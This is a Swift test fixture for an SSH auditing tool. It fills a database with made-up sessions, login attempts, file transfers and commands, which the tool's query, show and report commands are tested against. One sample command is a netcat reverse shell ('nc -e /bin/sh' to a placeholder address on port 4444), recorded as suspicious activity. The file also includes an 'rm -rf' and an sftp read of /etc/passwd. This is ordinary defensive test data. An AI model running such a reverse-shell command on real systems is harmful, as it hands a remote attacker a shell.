import Foundation
import GRDB
import SSHAuditCore
import XCTest

/// A small database with known answers for the CLI tests of `query`, `show` and `report`. The schema
/// is the binary's own (`sshaudit replay` creates it with every migration); its rows are replaced by
/// these hand-made ones. Two sessions lie in the last hours (for relative times); the rest in
/// March 2025.
///
///   1 alice  10.1.2.3            2025-03-10T10:00  publickey, 5 commands: -bash → ls, sudo → systemctl, vim (exit 1)
///   2 bob    2001:db8::5         2025-03-10T12:00  password after a failed one; -bash → su (1), rm -rf, nc (signal 9)
///   3 -      203.0.113.7         2025-03-11T08:00  never authenticated: root ×2 failed, admin invalid (an event)
///   4 -      203.0.113.200       2025-03-11T09:00  never authenticated: closed before authenticating (an event)
///   5 alice  ::ffff:192.0.2.44   2025-03-12T08:00  still open, its shell still running
///   6 carol  198.51.100.9        now - 2h          -bash → echo 'hello, "world"', a long command; sftp read; -L forward
///   7 -      2001:db8:1::9       now - 30m         never authenticated: oracle invalid, its password failed
enum QueryFixtureDatabase {
    static func build(in dir: String) throws -> String {
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let path = dir + "/fixture.db"
        try? FileManager.default.removeItem(atPath: path)
        let events = Paths.packageRoot.appending(path: "Tests/SSHAuditCoreTests/Fixtures/exec_command.events").path
        let replay = try runProcess(Paths.sshaudit, ["replay", events, "--db", path])
        guard replay.status == 0 else { throw TestFailure("replay failed: \(replay.stderr)") }

        let now = Int64(Date().timeIntervalSince1970 * 1000) * 1_000_000
        func ago(_ seconds: Double) -> String { Timestamp.iso(ns: now - Int64(seconds * 1e9)) }
        let queue = try DatabaseQueue(path: path)
        try queue.write { db in
            for table in ["commands", "auth_attempts", "file_transfers", "session_events", "channels", "sessions", "recorder_runs"] {
                try db.execute(sql: "DELETE FROM \(table)")
            }
            let sessions: [[DatabaseValueConvertible?]] = [
                [1, "alice", 1001, "10.1.2.3", 50001, "publickey", "SHA256:alicekey", "pts/1", "2025-03-10T10:00:00.000Z", "2025-03-10T10:00:00.400Z", "2025-03-10T11:00:00.000Z", 0, 5, 1000, 2000],
                [2, "bob", 1002, "2001:db8::5", 50002, "password", nil, nil, "2025-03-10T12:00:00.000Z", "2025-03-10T12:00:00.500Z", "2025-03-10T12:30:00.000Z", 1, 4, 500, 700],
                [3, nil, nil, "203.0.113.7", 50003, nil, nil, nil, "2025-03-11T08:00:00.000Z", nil, "2025-03-11T08:00:05.000Z", nil, 0, nil, nil],
                [4, nil, nil, "203.0.113.200", 50004, nil, nil, nil, "2025-03-11T09:00:00.000Z", nil, "2025-03-11T09:00:02.000Z", nil, 0, nil, nil],
                [5, "alice", 1001, "::ffff:192.0.2.44", 50005, "publickey", "SHA256:alicekey", nil, "2025-03-12T08:00:00.000Z", "2025-03-12T08:00:00.400Z", nil, nil, 1, nil, nil],
                [6, "carol", 1003, "198.51.100.9", 50006, "password", nil, "pts/2", ago(7200), ago(7199.5), ago(3600), 0, 3, 10, 20],
                [7, nil, nil, "2001:db8:1::9", 50007, nil, nil, nil, ago(1800), nil, ago(1790), nil, 0, nil, nil],
            ]
            for s in sessions {
                try db.execute(sql: """
                    INSERT INTO sessions (id, user, uid, remote_addr, remote_port, auth_method, key_fingerprint, tty, started_at,
                        authenticated_at, ended_at, exit_code, command_count, bytes_in, bytes_out,
                        sshd_pid, sshd_start_ns, local_addr, local_port, sshd_path, sshd_version)
                    VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, 4000 + ?1, ?1, '192.0.2.10', 22, '/usr/sbin/sshd', 'OpenSSH_9.2p1')
                    """, arguments: StatementArguments(s))
            }
            let long = ["python3", "-c", String(repeating: "print('a long command line that does not fit') ; ", count: 6)]
            let commands: [(Int, Int, Int?, String, [String], String, String?, Int?, Int?, Int?, Int)] = [
                // id, session, parent, filename, argv, started, ended, duration, exit, signal, uid
                (1, 1, nil, "/bin/bash", ["-bash"], "2025-03-10T10:00:01.000Z", "2025-03-10T11:00:00.000Z", 3_599_000, 0, nil, 1001),
                (2, 1, 1, "/usr/bin/ls", ["ls", "-la"], "2025-03-10T10:01:00.000Z", "2025-03-10T10:01:00.012Z", 12, 0, nil, 1001),
                (3, 1, 1, "/usr/bin/sudo", ["sudo", "systemctl", "restart", "nginx"], "2025-03-10T10:02:00.000Z", "2025-03-10T10:02:01.500Z", 1500, 0, nil, 1001),
                (4, 1, 3, "/usr/bin/systemctl", ["systemctl", "restart", "nginx"], "2025-03-10T10:02:00.200Z", "2025-03-10T10:02:01.400Z", 1200, 0, nil, 0),
                (5, 1, 1, "/usr/bin/vim", ["vim", "/etc/hosts"], "2025-03-10T10:05:00.000Z", "2025-03-10T10:06:00.000Z", 60000, 1, nil, 1001),
                (6, 2, nil, "/bin/bash", ["-bash"], "2025-03-10T12:00:01.000Z", "2025-03-10T12:30:00.000Z", 1_799_000, 1, nil, 1002),
                (7, 2, 6, "/bin/su", ["su", "-"], "2025-03-10T12:01:00.000Z", "2025-03-10T12:01:05.000Z", 5000, 1, nil, 1002),
                (8, 2, 6, "/usr/bin/rm", ["rm", "-rf", "/tmp/x"], "2025-03-10T12:02:00.000Z", "2025-03-10T12:02:00.003Z", 3, 0, nil, 1002),
                (9, 2, 6, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], "2025-03-10T12:03:00.000Z", "2025-03-10T12:10:00.000Z", 420_000, nil, 9, 1002),
                (10, 5, nil, "/bin/bash", ["-bash"], "2025-03-12T08:00:01.000Z", nil, nil, nil, nil, 1001),
                (11, 6, nil, "/bin/bash", ["-bash"], ago(7199), ago(3600), 3_599_000, 0, nil, 1003),
                (12, 6, 11, "/usr/bin/echo", ["echo", "hello, \"world\""], ago(7140), ago(7139.99), 10, 0, nil, 1003),
                (13, 6, 11, "/usr/bin/python3", long, ago(7080), ago(7079), 1000, 0, nil, 1003),
            ]
            for c in commands {
                let argv = String(decoding: try JSONSerialization.data(withJSONObject: c.4, options: [.withoutEscapingSlashes]), as: UTF8.self)
                try db.execute(sql: """
                    INSERT INTO commands (id, session_id, parent_id, pid, ppid, uid, filename, argv, started_at, ended_at,
                        duration_ms, exit_code, signal)
                    VALUES (?, ?, ?, 7000 + ?1, 1, ?, ?, ?, ?, ?, ?, ?, ?)
                    """, arguments: [c.0, c.1, c.2, c.10, c.3, argv, c.5, c.6, c.7, c.8, c.9])
            }
            let auth: [[DatabaseValueConvertible?]] = [
                [1, 1, "2025-03-10T10:00:00.300Z", "alice", "10.1.2.3", "publickey", "accepted", "ED25519", "SHA256:alicekey"],
                [2, 2, "2025-03-10T12:00:00.200Z", "bob", "2001:db8::5", "password", "failed", nil, nil],
                [3, 2, "2025-03-10T12:00:00.400Z", "bob", "2001:db8::5", "password", "accepted", nil, nil],
                [4, 3, "2025-03-11T08:00:01.000Z", "root", "203.0.113.7", "password", "failed", nil, nil],
                [5, 3, "2025-03-11T08:00:02.000Z", "root", "203.0.113.7", "password", "failed", nil, nil],
                [8, 5, "2025-03-12T08:00:00.300Z", "alice", "::ffff:192.0.2.44", "publickey", "accepted", "ED25519", "SHA256:alicekey"],
                [9, 6, ago(7199.7), "carol", "198.51.100.9", "password", "accepted", nil, nil],
                [10, 7, ago(1799), "oracle", "2001:db8:1::9", "password", "failed", nil, nil],
            ]
            for a in auth {
                try db.execute(sql: """
                    INSERT INTO auth_attempts (id, session_id, at, user, remote_addr, remote_port, method, result, key_type, key_fingerprint)
                    VALUES (?1, ?2, ?3, ?4, ?5, 50000 + ?2, ?6, ?7, ?8, ?9)
                    """, arguments: StatementArguments(a))
            }
            try db.execute(sql: """
                INSERT INTO file_transfers (id, session_id, command_id, protocol, path, mode, opened_at, closed_at, bytes_read, bytes_written)
                VALUES (1, 1, 2, 'scp', '/home/alice/upload.tar', 'write', '2025-03-10T10:10:00.000Z', '2025-03-10T10:10:05.000Z', 0, 4096),
                       (2, 6, NULL, 'sftp', '/etc/passwd', 'read', ?, ?, 2048, 0)
                """, arguments: [ago(7080), ago(7079)])
            try db.execute(sql: """
                INSERT INTO session_events (id, session_id, at, kind, target_host, target_port, detail)
                VALUES (1, 1, '2025-03-10T10:00:02.000Z', 'agent_forward', NULL, NULL, '/tmp/ssh-abc/agent.1'),
                       (2, 6, ?, 'local_forward', 'db.internal', 5432, NULL),
                       (3, 3, '2025-03-11T08:00:03.000Z', 'invalid_user', NULL, NULL, 'admin'),
                       (4, 3, '2025-03-11T08:00:05.000Z', 'closed_before_auth', NULL, NULL, 'admin'),
                       (5, 4, '2025-03-11T09:00:01.000Z', 'closed_before_auth', NULL, NULL, NULL),
                       (6, 7, ?, 'invalid_user', NULL, NULL, 'oracle')
                """, arguments: [ago(7195), ago(1799.5)])
        }
        try queue.close()
        return path
    }
}
